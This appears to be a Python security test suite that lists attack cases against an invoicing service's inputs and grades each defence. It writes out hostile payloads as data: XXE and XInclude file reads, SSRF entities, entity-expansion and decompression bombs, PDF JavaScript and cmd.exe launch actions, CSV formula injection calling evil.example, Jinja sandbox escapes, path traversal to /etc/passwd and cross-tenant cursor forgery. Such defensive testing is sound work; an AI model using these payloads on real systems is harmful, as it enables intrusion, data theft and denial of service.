"""The cases: every kind of attack on every input path, in a fixed order."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

from .env import Env, api_verdict, request, upload
from .mail_cases import mail_cases
from .model import CANARY, EICAR, JUNK, OTHER, TENANT, Case, Verdict
from .payloads import (
    active_pdf,
    bank_csv,
    billion_laughs,
    bomb_attachment_pdf,
    bomb_page_pdf,
    camt,
    cii,
    csv_row,
    deep_xml,
    encrypted_pdf,
    hybrid_pdf,
    many_pages_pdf,
    oversized,
    quadratic_blowup,
    raw_pdf,
    text_pdf,
    ubl,
)
from .portal_cases import portal_cases
from .review_cases import review_cases


def _xml_cases(env_url: str, canary_file: str) -> Iterator[Case]:
    xxe_file = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{canary_file}">]>'
    xxe_url = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "{env_url}/xxe">]>'
    dtd = f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{env_url}/evil.dtd">'
    param = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{env_url}/p.dtd"> %p;]>'
    attacks: list[tuple[str, str, Callable[[Callable[..., bytes]], bytes]]] = [
        ("xxe-file", "XXE: an external entity reading a local file", lambda f: f(buyer="&xxe;",
                                                                                  prolog=xxe_file)),
        ("xxe-url", "XXE: an external entity fetching a URL (SSRF)",
         lambda f: f(buyer="&xxe;", prolog=xxe_url)),
        ("external-dtd", "an external DTD (fetched from a URL)", lambda f: f(prolog=dtd)),
        ("parameter-entity", "a parameter entity loading an external DTD", lambda f: f(prolog=param)),
        ("billion-laughs", "entity expansion: billion laughs",
         lambda f: f(buyer="&l9;", prolog=billion_laughs())),
        ("quadratic-blowup", "entity expansion: one 50 kB entity used 10 000 times",
         lambda f: f(buyer="&a;" * 10_000, prolog=quadratic_blowup())),
    ]
    for syntax, build in (("cii", cii), ("ubl", ubl)):
        for name, attack, make in attacks:
            payload = make(build)
            yield Case(f"xml-{syntax}-{name}", f"invoice XML ({syntax.upper()}) via the S3 inbox",
                       attack, "s3", run=upload("invoices", f"{syntax}-{name}.xml", payload))
    yield Case("xml-cii-xinclude", "invoice XML (CII) via the S3 inbox",
               "XInclude of a local file", "s3", run=_xinclude)
    yield Case("xml-cii-deep-nesting", "invoice XML (CII) via the S3 inbox",
               "100 000 nested elements", "s3",
               run=lambda env: env.s3_file("invoices", "deep.xml", deep_xml()))
    yield Case("xml-cii-utf7", "invoice XML (CII) via the S3 inbox",
               "a UTF-7 declaration (encoding tricks to hide markup)", "s3",
               run=lambda env: env.s3_file("invoices", "utf7.xml", cii(
                   prolog='<?xml version="1.0" encoding="UTF-7"?>')))
    yield Case("xml-cii-eicar", "invoice XML (CII) via the S3 inbox",
               "the EICAR test signature in the XML text", "s3",
               run=lambda env: env.s3_file("invoices", "eicar.xml", cii(buyer=EICAR.decode())))
    # the same attacks inside a hybrid PDF (ZUGFeRD / Factur-X)
    for name, attack, make in attacks[:1] + attacks[2:3] + attacks[4:5]:
        payload = hybrid_pdf(make(cii))
        yield Case(f"pdf-embedded-{name}", "e-invoice XML inside a PDF via the S3 inbox",
                   f"{attack}, in the embedded factur-x.xml", "s3",
                   run=upload("invoices", f"embedded-{name}.pdf", payload))
    yield Case("pdf-embedded-eicar", "e-invoice XML inside a PDF via the S3 inbox",
               "the EICAR test file as an attachment", "s3",
               run=lambda env: env.s3_file("invoices", "embedded-eicar.pdf",
                                           hybrid_pdf(EICAR, "readme.txt")))
    # camt.053 bank statements
    for name, attack, _ in attacks:
        if name in {"xxe-file", "xxe-url"}:
            payload = camt(debtor="&xxe;", prolog=(xxe_file if name == "xxe-file" else xxe_url))
        elif name == "billion-laughs":
            payload = camt(debtor="&l9;", prolog=billion_laughs())
        elif name == "quadratic-blowup":
            payload = camt(debtor="&a;" * 10_000, prolog=quadratic_blowup())
        else:
            payload = camt(prolog=dtd if name == "external-dtd" else param)
        yield Case(f"camt-{name}", "camt.053 bank statement via the S3 inbox", attack, "s3",
                   run=upload("bank", f"camt-{name}.xml", payload))
    yield Case("camt-eicar", "camt.053 bank statement via the S3 inbox",
               "the EICAR test signature in a remittance text", "s3",
               run=lambda env: _bank_eicar(env, "camt-eicar.xml", camt(remittance=EICAR.decode())))
    yield Case("camt-deep-nesting", "camt.053 bank statement via the S3 inbox",
               "100 000 nested elements", "s3",
               run=lambda env: env.s3_file("bank", "camt-deep.xml", deep_xml()))


def _xinclude(env: Env) -> Verdict:
    extra = f'<xi:include href="file://{env.canary.file}" parse="text"/>'
    verdict = env.s3_file("invoices", "xinclude.xml", cii(extra=extra, number="HX-XI-1"))
    if verdict.outcome != "accepted":
        return verdict
    if CANARY in env.customer_names():
        return Verdict("accepted", "XInclude was processed: the file's content was imported")
    return Verdict("defused", "XInclude is not processed: the element is ignored, the invoice "
                              "itself imported, nothing was read from the file")


def _pdf_cases() -> Iterator[Case]:
    path = "invoice PDF via the S3 inbox"
    for where, what in (("open", "JavaScript as the document's OpenAction"),
                        ("names", "JavaScript in the document's name tree"),
                        ("page", "JavaScript as a page's open action"),
                        ("launch", "a Launch action starting cmd.exe")):
        yield Case(f"pdf-active-{where}", path, what, "s3",
                   run=upload("invoices", f"active-{where}.pdf", active_pdf(where)))
    for algorithm in ("RC4-128", "AES-256"):
        yield Case(f"pdf-encrypted-{algorithm.lower()}", path, f"encrypted ({algorithm})", "s3",
                   run=upload("invoices", f"encrypted-{algorithm}.pdf", encrypted_pdf(algorithm)))
    malformed = {
        "pdf-malformed-truncated": ("truncated to half its length",
                                    lambda: (d := hybrid_pdf(cii()))[: len(d) // 2]),
        "pdf-malformed-header-only": ("a PDF header and nothing else", lambda: b"%PDF-1.7\n"),
        "pdf-malformed-xref-bomb": ("an xref table claiming 99 999 999 entries",
                                    lambda: raw_pdf(b"xref\n0 99999999\n0000000000 65535 f \n")),
        "pdf-malformed-page-loop": ("a page tree that contains itself", lambda: raw_pdf(
            b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
            b"2 0 obj << /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >> endobj\n"
            b"3 0 obj << /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >> endobj\n")),
        "pdf-malformed-deep-nesting": ("arrays nested 100 000 deep", lambda: raw_pdf(
            b"1 0 obj << /Type /Catalog /Pages 2 0 R /X " + b"[" * 100_000 + b"]" * 100_000
            + b" >> endobj\n")),
        "pdf-malformed-garbage": ("a PDF header followed by binary junk",
                                  lambda: b"%PDF-1.4\n" + JUNK * 8),
    }
    for case_id, (what, build) in malformed.items():
        yield Case(case_id, path, what, "s3",
                   run=upload("invoices", f"{case_id}.pdf", build))
    yield Case("pdf-decompression-bomb-page", path, "a page stream that inflates to 120 MB", "s3",
               run=lambda env: env.s3_file("invoices", "bomb-page.pdf", bomb_page_pdf()), timeout=30)
    yield Case("pdf-decompression-bomb-attachment", path,
               "an embedded factur-x.xml that inflates to 120 MB", "s3",
               run=lambda env: env.s3_file("invoices", "bomb-attachment.pdf", bomb_attachment_pdf()),
               timeout=30)
    yield Case("pdf-page-count-bomb", path, "501 pages (more than the 500 allowed)", "s3",
               run=lambda env: env.s3_file("invoices", "pages.pdf", many_pages_pdf()))
    yield Case("pdf-oversized", path, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "oversized.pdf",
                                           oversized(text_pdf(), 21 * 1024 * 1024)))


def _csv_cases() -> Iterator[Case]:
    path = "CSV invoices via the S3 inbox"
    formulas = {
        "equals": ("number", '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")'),
        "plus": ("name", "+cmd|' /C calc'!A0"),
        "minus": ("name", "-2+3+cmd|' /C calc'!A0"),
        "at": ("city", "@SUM(1+1)*cmd|' /C calc'!A0"),
        "tab": ("name", "\t=1+1"),
    }
    for name, (cell, formula) in formulas.items():
        row = csv_row(number=formula) if cell == "number" else (
            csv_row(name=formula) if cell == "name" else csv_row(city=formula))
        yield Case(f"csv-formula-{name}", path, f"formula injection in the {cell} cell "
                   f"(starts with {formula[:1]!r})", "s3",
                   run=upload("invoices", f"formula-{name}.csv", row))
    yield Case("csv-eicar", path, "the EICAR test signature in a cell", "s3",
               run=lambda env: env.s3_file("invoices", "eicar.csv", csv_row(name=EICAR.decode())))
    yield Case("csv-nul-bytes", path, "NUL bytes (a binary file named .csv)", "s3",
               run=lambda env: env.s3_file("invoices", "nul.csv", csv_row() + b"\x00" * 4096))
    yield Case("csv-huge-field", path, "one 10 MB cell", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "huge-field.csv",
                                           csv_row(name="A" * 10 * 1024 * 1024)))
    yield Case("csv-100k-columns", path, "a header of 100 000 columns", "s3",
               run=lambda env: env.s3_file("invoices", "columns.csv",
                                           (";".join(f"c{i}" for i in range(100_000)) + "\n").encode()))
    yield Case("csv-zip-polyglot", path, "a ZIP archive named .csv", "s3",
               run=lambda env: env.s3_file("invoices", "archive.csv", b"PK\x03\x04" + JUNK[:512]))
    yield Case("csv-oversized", path, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("invoices", "oversized.csv",
                                           oversized(csv_row(), 21 * 1024 * 1024)))
    bank = "bank CSV via the S3 inbox"
    yield Case("bank-csv-formula", bank, "formula injection in the payer name and remittance", "s3",
               run=_bank_formula)
    yield Case("bank-csv-eicar", bank, "the EICAR test signature in a remittance text", "s3",
               run=lambda env: _bank_eicar(env, "bank-eicar.csv",
                                           bank_csv("Max Muster", "RE-9 " + EICAR.decode())))
    yield Case("bank-csv-oversized", bank, "21 MB (the limit is 20 MB)", "s3", timeout=30,
               run=lambda env: env.s3_file("bank", "bank-oversized.csv",
                                           oversized(bank_csv("a", "b"), 21 * 1024 * 1024)))
    yield Case("mt940-nul-bytes", "MT940 via the S3 inbox", "binary junk after a :20: header", "s3",
               run=lambda env: env.s3_file("bank", "junk.sta", b":20:STARTUMS\r\n" + JUNK))


def _bank_eicar(env: Env, name: str, data: bytes) -> Verdict:
    """A payer controls the remittance text: the signature is removed from it and the payment
    booked (refusing the statement would let any payer block the tenant's reconciliation)."""
    verdict = env.s3_file("bank", name, data)
    if verdict.outcome != "accepted":
        return verdict
    texts = " ".join(f"{p.remittance} {p.debtor_name}" for p in env.payments())
    if EICAR.decode() in texts:
        return Verdict("accepted", "the signature reached the stored payment")
    if "malware test signature removed" not in texts:
        return Verdict("accepted", "the payment was not booked")
    return Verdict("defused", "the booking is kept (a payer must not be able to block the whole "
                              "statement); the signature was removed from its text before storage")


def _bank_formula(env: Env) -> Verdict:
    formula = '=HYPERLINK("http://evil.example","klick")'
    verdict = env.s3_file("bank", "bank-formula.csv", bank_csv("@SUM(1+1)", formula))
    if verdict.outcome != "accepted":
        return verdict
    stored = [p for p in env.payments() if p.remittance == formula]
    if stored and stored[0].debtor_name == "@SUM(1+1)":
        return Verdict("defused", "a payment is never refused for its text: booked, the texts kept "
                                  "verbatim as data (JSON through the API; Mahnwerk writes no "
                                  "spreadsheets)")
    return Verdict("accepted", "the texts were changed or lost")


CORPUS_FILES = (
    ("corpus-zugferd-fail-encoding", "invoices",
     "zugferd-corpus/ZUGFeRDv2/fail/Mustangproject/factur-x-invalid-xml-encoding-attribute.pdf",
     "upstream failing file: an illegal XML encoding name in the embedded XML"),
    ("corpus-eicar-cii", "invoices", "zugferd-corpus/other/eicar.cii.xml",
     "the EICAR test file attached to a CII e-invoice"),
    ("corpus-eicar-ubl", "invoices", "zugferd-corpus/other/eicar.ubl.xml",
     "the EICAR test file attached to a UBL e-invoice"),
    ("corpus-camt-wrong", "bank", "camt/camt053.v2.wrong.xml",
     "upstream malformed camt.053 (no statement)"),
    ("corpus-mt940-broken", "bank", "mt940/betterplace/sepa_snippet_broken.sta",
     "upstream broken MT940 (a :25: where a :86: belongs)"),
)


def _corpus_cases() -> Iterator[Case]:
    for case_id, kind, rel, what in CORPUS_FILES:
        yield Case(case_id, "corpus file via the S3 inbox", what, "s3", corpus=rel,
                   run=_corpus(kind, rel))


def _corpus(kind: str, rel: str) -> Callable[[Env], Verdict]:
    def run(env: Env) -> Verdict:
        verdict = env.s3_corpus(kind, rel)
        if rel.endswith("sepa_snippet_broken.sta") and verdict.outcome == "accepted" \
                and "line" in verdict.reason:
            return Verdict("defused", "the broken line was refused (" + verdict.reason.split("; ", 1)[1]
                           + "); the intact booking before it was kept, as the bank sent it")
        return verdict
    return run


def _template_cases() -> Iterator[Case]:
    path = "tenant letter templates (the sandbox, check_template)"
    sources = {
        "tpl-dunder-mro": ("attribute escape: ''.__class__.__mro__", "{{ ''.__class__.__mro__ }}"),
        "tpl-dunder-globals": ("attribute escape: a method's __globals__",
                               "{{ customer_name.format.__globals__ }}"),
        "tpl-cycler-globals": ("attribute escape: cycler.__init__.__globals__",
                               "{{ cycler.__init__.__globals__.os }}"),
        "tpl-subclasses": ("escape to every class: __subclasses__()",
                           "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        "tpl-mutation": ("mutating a context list", "{{ invoice_numbers.append('x') }}"),
        "tpl-range-bomb": ("nested range loops (10^10 iterations)",
                           "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}"
                           "{% endfor %}"),
        "tpl-loop-depth": ("three nested loops over the invoices",
                           "{% for a in invoice_numbers %}{% for b in invoice_numbers %}"
                           "{% for c in invoice_numbers %}x{% endfor %}{% endfor %}{% endfor %}"),
        "tpl-string-loop": ("a loop over the characters of a value",
                            "{% for c in customer_name %}{{ c }}{% endfor %}"),
        "tpl-string-repeat": ("string repetition: 'x' * 10**9", "{{ 'x' * 1000000000 }}"),
        "tpl-power": ("a power folded while compiling: 10 ** 10 ** 8", "{{ 10 ** 10 ** 8 }}"),
        "tpl-percent-format": ("printf padding: '%999999999s' % x", "{{ '%999999999s' % 'a' }}"),
        "tpl-format-width": ("str.format padding of 999 999 999",
                             "{{ '{:>999999999}'.format(customer_name) }}"),
        "tpl-lipsum": ("lipsum(10**6)", "{{ lipsum(1000000) }}"),
        "tpl-center": ("the center filter with a width of 10**9", "{{ 'x' | center(1000000000) }}"),
        "tpl-replace-chain": ("replace chains that double a text each time",
                              "{{ customer_name" + "|replace('a','aa')" * 40 + " }}"),
        "tpl-tojson-chain": ("tojson chains that double backslashes each time",
                             "{{ customer_name" + "|tojson" * 40 + " }}"),
        "tpl-set-doubling": ("set s = s ~ s, repeated",
                             "{% set s = customer_name %}" + "{% set s = s ~ s %}" * 40 + "{{ s }}"),
        "tpl-recursive-macro": ("a macro calling itself",
                                "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        "tpl-self-include": ("a template including itself", "{% include 'check.txt' %}"),
        "tpl-autoescape-off": ("switching autoescaping off", "{% autoescape false %}x{% endautoescape %}"),
        "tpl-undefined": ("an unknown variable (a typo must not print blank)", "{{ iban }}"),
        "tpl-syntax-error": ("broken syntax", "{% if %}"),
        "tpl-oversized": ("a 25 000-character template", "x" * 25_000),
    }
    for case_id, (what, source) in sources.items():
        yield Case(case_id, path, what, "pure", pure=("template", (source,)), timeout=10)
    yield Case("tpl-output-bomb", path, "two allowed loops over 300 invoices printing 1 kB each",
               "pure", pure=("template", ("{% for a in invoice_numbers %}{% for b in invoice_numbers %}"
                                          + "x" * 1000 + "{% endfor %}{% endfor %}", 300)),
               timeout=10)
    values = "tenant-editable values (settings)"
    payload = "{{ 7*7 }}{{ ''.__class__.__mro__ }}{% for x in range(9) %}{% endfor %}"
    for where in ("company.name", "level name", "customer.name"):
        yield Case(f"tpl-literal-{where.replace(' ', '-').replace('.', '-')}", values,
                   f"template syntax in the {where}", "pure", pure=("literal_text", (where, payload)))
    yield Case("api-settings-texts", "PUT /v1/settings (tenant texts)",
               "a template override with an attribute escape in the settings document", "api",
               run=lambda env: env.api_verdict("PUT", "/v1/settings/", {
                   **env.settings, "texts": {"de/level1.txt": "{{ ''.__class__.__mro__ }}"}}))


def _key_cases() -> Iterator[Case]:
    path = "S3 keys (parse_inbox_key)"
    keys = {
        "key-traversal": "inbox/acme/invoices/../../reports/acme/x.csv",
        "key-absolute": "/inbox/acme/invoices/x.csv",
        "key-dotdot-name": "inbox/acme/invoices/..",
        "key-dot-name": "inbox/acme/invoices/.",
        "key-empty-name": "inbox/acme/invoices/",
        "key-backslash": "inbox/acme/invoices/..\\..\\x.csv",
        "key-nul": "inbox/acme/invoices/x\x00.csv",
        "key-newline": "inbox/acme/invoices/x\n.csv",
        "key-rtl-override": "inbox/acme/invoices/rechnung\u202efdp.csv",
        "key-fullwidth-solidus": "inbox/acme/invoices/..\uff0f..\uff0fx.csv",
        "key-two-dot-leader": "inbox/acme/invoices/\u2025\u2215x.csv",
        "key-percent-encoded": "inbox/acme/invoices/%2e%2e%2fx.csv",
        "key-cyrillic-tenant": "inbox/\u0430cme/invoices/x.csv",
        "key-upper-tenant": "inbox/ACME/invoices/x.csv",
        "key-other-folder": "inbox/acme/../beta/invoices/x.csv",
        "key-long-name": "inbox/acme/invoices/" + "x" * 201 + ".csv",
    }
    for case_id, key in keys.items():
        yield Case(case_id, path, f"the key {key[:60]!r}", "pure", pure=("inbox_key", (key,)))
    yield Case("key-s3-traversal", "S3 inbox (an object at a key outside the layout)",
               "an object at inbox/acme/invoices/../../reports/acme/x.csv", "s3", run=_s3_bad_key)
    uploads = {
        "upload-traversal": "../../x.csv",
        "upload-absolute": "/etc/passwd",
        "upload-subfolder": "a/b.csv",
        "upload-dotdot": "..",
        "upload-nul": "x\x00.csv",
        "upload-rtl-override": "rechnung\u202efdp.csv",
        "upload-fullwidth-solidus": "..\uff0fx.csv",
        "upload-percent-encoded": "%2e%2e%2fx.csv",
        "upload-backslash": "..\\..\\x.csv",
        "upload-long-name": "x" * 201,
    }
    for case_id, name in uploads.items():
        yield Case(case_id, "POST /v1/uploads (presigned upload URL)", f"the file name {name[:40]!r}",
                   "api", run=request("POST", "/v1/uploads/", {"file_name": name}))
    yield Case("upload-kind-traversal", "POST /v1/uploads (presigned upload URL)",
               "the folder '../bank'", "api",
               run=lambda env: env.api_verdict("POST", "/v1/uploads/", {"file_name": "x.csv",
                                                                         "kind": "../bank"}))


def _s3_bad_key(env: Env) -> Verdict:
    """An object outside the inbox layout (only someone with bucket access can put one: uploads
    go through presigned URLs for checked keys). The intake refuses the key; by design the
    message then goes to the dead-letter queue, whose alarm tells the operator
    (tests/integration/test_intake.py)."""
    from mahnwerk.domain.model import DomainError
    from mahnwerk.service.intake import parse_inbox_key

    key = "inbox/acme/invoices/../../reports/acme/x.csv"
    dlq = env.dlq()
    env.put(key, csv_row())
    env.stack.drain()
    reports = env.stack.client("s3").list_objects_v2(Bucket=env.stack.bucket,
                                                      Prefix=f"reports/{TENANT}/imports/x.csv")
    if reports.get("KeyCount"):
        return Verdict("accepted", "the file was imported")
    if env.dlq() != dlq + 1:
        return Verdict("crashed", "the message neither succeeded nor reached the dead-letter queue")
    url = env.stack.resolver.values["IntakeDeadLetterQueue"]
    env.stack.client("sqs").purge_queue(QueueUrl=url)
    try:
        parse_inbox_key(key)
    except DomainError as exc:
        return Verdict("refused", f"{exc}; nothing imported; the message went to the intake "
                                  "dead-letter queue (the designed path: an alarm for the operator)")
    return Verdict("accepted", "parse_inbox_key took the key")


def _api_cases() -> Iterator[Case]:
    big = "x" * (5 * 1024 * 1024)
    invoice = {"number": "B-1", "customer": {"id": "K-9", "name": "N"}, "issue_date": "2026-03-01",
               "amount": "1.00"}
    bodies = {
        "api-body-batch-cap": ("POST", "/v1/invoices/", "1 001 invoices in one request (cap 1 000)",
                               lambda: {"invoices": [{**invoice, "number": f"B-{i}"} for i in range(1001)]}),
        "api-body-5mb-field": ("POST", "/v1/invoices/", "a 5 MB customer name",
                               lambda: {"invoices": [{**invoice, "customer": {"name": big}}]}),
        "api-body-5mb-settings": ("PUT", "/v1/settings/", "a 5 MB company name in the settings",
                                  lambda: {"company": {"name": big}}),
        "api-body-500kb-settings": ("PUT", "/v1/settings/",
                                    "a 500 kB website in otherwise valid settings", None),
        "api-body-5mb-upload-name": ("POST", "/v1/uploads/", "a 5 MB file name",
                                     lambda: {"file_name": big}),
        "api-body-5mb-reason": ("POST", "/v1/invoices/P-0/pause", "a 5 MB pause reason",
                                lambda: {"until": "2026-04-01", "reason": big}),
        "api-body-5mb-payment": ("POST", "/v1/payments/", "a 5 MB remittance reference",
                                 lambda: {"amount": "1.00", "booking_date": "2026-03-09",
                                          "reference": big}),
        "api-body-nested-json": ("POST", "/v1/invoices/", "JSON nested 100 000 deep",
                                 lambda: "[" * 100_000 + "]" * 100_000),
        "api-body-not-json": ("POST", "/v1/invoices/", "a body that is not JSON",
                              lambda: "\x00\xff<invoices/>"),
        "api-body-formula": ("POST", "/v1/invoices/", "formula injection in a customer name",
                             lambda: {"invoices": [{**invoice, "customer": {
                                 "name": '=HYPERLINK("http://evil.example","x")'}}]}),
    }
    patches = {
        "api-patch-5mb-name": ("a 5 MB customer name", lambda: {"name": big}),
        "api-patch-wrong-types": ("wrong types: a number as name, text as the consumer flag, an "
                                  "object as e-mail", lambda: {"name": 42, "is_consumer": "yes",
                                                                "email": {"$ne": ""}}),
        "api-patch-control-chars": ("terminal escapes and a right-to-left override in a name",
                                    lambda: {"name": "Anna\x1b[2J\u202eSchmidt"}),
        "api-patch-null-name": ("null for the name (erase it)", lambda: {"name": None}),
        "api-patch-formula": ("formula injection in a city",
                              lambda: {"address": {"city": "=cmd|'/c calc'!A0"}}),
        "api-patch-unknown-field": ("a field that is no master data (the customer id)",
                                    lambda: {"customer_id": "K-2"}),
    }
    for case_id, (what, make) in patches.items():
        bodies[case_id] = ("PATCH", "/v1/customers/K-1", what, make)
    for case_id, (method, path, what, build) in bodies.items():
        yield Case(case_id, f"{method} {path.rstrip('/')} (request body)", what, "api", timeout=30,
                   run=_api_body(method, path, build, case_id))
    yield Case("api-patch-other-tenant", "PATCH /v1/customers/K-1 (request body)",
               "rename a customer only another tenant has", "api", run=_patch_other_tenant)
    pages = {
        "page-limit-huge": ("/v1/invoices", {"limit": str(10 ** 9)}, "limit=10^9"),
        "page-limit-zero": ("/v1/invoices", {"limit": "0"}, "limit=0"),
        "page-limit-negative": ("/v1/customers", {"limit": "-5"}, "limit=-5"),
        "page-limit-text": ("/v1/payments", {"limit": "all"}, "limit=all"),
        "page-notices-limit-huge": ("/v1/notices", {"limit": str(10 ** 9)}, "limit=10^9"),
        "page-cursor-garbage": ("/v1/invoices", {"cursor": "garbage!"}, "a cursor that is not one"),
        "page-cursor-nested": ("/v1/invoices", {"cursor": base64.urlsafe_b64encode(
            b"[" * 1400 + b"]" * 1400).decode().rstrip("=")[:2000]}, "a cursor of nested JSON"),
        "page-cursor-long": ("/v1/invoices", {"cursor": "A" * 5000}, "a 5 000-character cursor"),
        "page-cursor-forged-key": ("/v1/invoices", {"cursor": base64.urlsafe_b64encode(json.dumps(
            {"pk": {"S": "T#beta"}, "sk": {"S": "INV#P-0"}}).encode()).decode().rstrip("=")},
            "a hand-made cursor naming another tenant's partition"),
        "page-forecast-days": ("/v1/forecast", {"days": str(10 ** 6)}, "a forecast of 10^6 days"),
    }
    for case_id, (path, query, what) in pages.items():
        yield Case(case_id, f"GET {path} (pagination)", what, "api",
                   run=request("GET", path, query=query))
    yield Case("page-cursor-other-tenant", "GET /v1/invoices (pagination)",
               "a real cursor of another tenant", "api",
               run=lambda env: env.api_verdict("GET", "/v1/invoices",
                                               query={"cursor": env.other_cursor}))


def _api_body(method: str, path: str, build: Callable[[], Any] | None,
              case_id: str) -> Callable[[Env], Verdict]:
    def run(env: Env) -> Verdict:
        if build is None:  # valid settings, one field far too long
            body: Any = json.loads(json.dumps(env.settings))
            body["company"]["website"] = "w" * 500_000
        else:
            body = build()
        response = env.api(method, path, body)
        verdict = api_verdict(response)
        if case_id == "api-body-formula" and verdict.outcome == "accepted":
            rejected = response.body.get("rejected") or []
            if not response.body.get("created") and not response.body.get("unchanged") and rejected:
                return Verdict("refused", f"HTTP 200, the row rejected: {rejected[0]['reason']}")
        return verdict
    return run


def _patch_other_tenant(env: Env) -> Verdict:
    """A customer only the other tenant has: the edit must not find it, and it keeps its name."""
    row = {"number": "P-OT", "customer": {"id": "K-OTHER", "name": "Bodo Berg"},
           "issue_date": "2026-03-01", "amount": "1.00"}
    assert env.api("POST", "/v1/invoices", {"invoices": [row]}, tenant=OTHER).status == 200
    verdict = env.api_verdict("PATCH", "/v1/customers/K-OTHER", {"name": "übernommen"})
    kept = env.api("GET", "/v1/customers/K-OTHER", tenant=OTHER).body.get("name")
    if kept != "Bodo Berg":
        return Verdict("accepted", f"the other tenant's customer was renamed to {kept!r}")
    return verdict


def all_cases(env_url: str = "http://127.0.0.1:9", canary_file: str = "/canary") -> list[Case]:
    """Every case, in a fixed order. The URL and file are the canary's (any values list the same
    cases: ids do not depend on them)."""
    return [*_xml_cases(env_url, canary_file), *_pdf_cases(), *_csv_cases(), *_corpus_cases(),
            *_template_cases(), *_key_cases(), *_api_cases(), *mail_cases(), *review_cases(),
            *portal_cases()]
